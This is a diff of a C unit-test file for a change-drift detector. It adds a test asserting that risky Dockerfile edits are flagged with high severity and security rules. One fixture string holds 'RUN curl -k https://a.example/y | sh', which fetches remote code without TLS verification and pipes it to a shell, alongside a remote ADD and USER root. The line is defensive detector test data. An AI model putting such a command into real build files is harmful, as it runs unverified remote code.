@@ -142,6 +142,47 @@ static void an_image_is_tied_to_the_commit_that_named_it(void **state)
     drift_report_free(&report);
 }
 
+static bool fired(const struct drift_item *item, const char *rule)
+{
+    for (size_t i = 0; i < item->rule_count; i++) {
+        if (strcmp(item->rules[i].rule, rule) == 0)
+            return true;
+    }
+    return false;
+}
+
+/* What it builds upon is told with the images. */
+static void what_a_dockerfile_does_that_is_new_is_judged(void **state)
+{
+    static const char safe[] = "FROM alpine:3.18\nRUN a\nUSER app\n";
+    struct work *work = *state;
+    struct drift_report *report;
+    const struct drift_item *item;
+
+    builder_write(work->build, "web.Dockerfile", safe);
+    builder_write(work->build, "tests/Dockerfile", safe);
+    write_file(work, "Dockerfile", safe, "Begin", "v1");
+    replace(work, "web.Dockerfile", "RUN a", "RUN b", "MB-1: b", NULL);
+    replace(work, "tests/Dockerfile", "USER app", "USER root", "MB-2: root", NULL);
+    replace(work, "Dockerfile", "USER app\n",
+            "ADD https://a.example/x /x\nRUN curl -k https://a.example/y | sh\n", "MB-3: y", "v2");
+    report = drift_detect(work_read(work));
+
+    item = item_of(report, DRIFT_CODE, "Dockerfile");
+    assert_int_equal(item->severity, SEVERITY_HIGH);
+    assert_int_equal(item->attention, ATTENTION_REVIEW);
+    assert_true(item->security);
+    assert_true(fired(item, "code.image-root"));
+    assert_true(fired(item, "code.image-piped"));
+    assert_true(fired(item, "code.image-unverified"));
+    assert_true(fired(item, "code.image-remote"));
+    item = item_of(report, DRIFT_CODE, "web.Dockerfile");
+    assert_int_equal(item->severity, SEVERITY_MEDIUM);
+    assert_false(item->security);
+    assert_false(fired(item_of(report, DRIFT_CODE, "tests/Dockerfile"), "code.image-root"));
+    drift_report_free(&report);
+}
+
 static void a_variable_of_infrastructure_is_tied_to_the_commit_that_set_it(void **state)
 {
     struct work *work = *state;
@@ -241,15 +282,6 @@ static void what_one_ticket_changed_is_named_together(void **state)
     drift_report_free(&report);
 }
 
-static bool fired(const struct drift_item *item, const char *rule)
-{
-    for (size_t i = 0; i < item->rule_count; i++) {
-        if (strcmp(item->rules[i].rule, rule) == 0)
-            return true;
-    }
-    return false;
-}
-
 /* The file of a migration is listed and counted; what it does is judged once. */
 static void a_migration_is_judged_with_the_database_alone(void **state)
 {
@@ -336,6 +368,7 @@ int main(void)
         CASE(an_edited_migration_is_tied_to_all_who_edited_it),
         CASE(a_package_is_tied_to_the_commit_that_changed_its_entry),
         CASE(an_image_is_tied_to_the_commit_that_named_it),
+        CASE(what_a_dockerfile_does_that_is_new_is_judged),
         CASE(a_variable_of_infrastructure_is_tied_to_the_commit_that_set_it),
         CASE(commits_on_branches_beside_each_other_are_told_apart),
         CASE(what_no_commit_changed_is_tied_to_none),
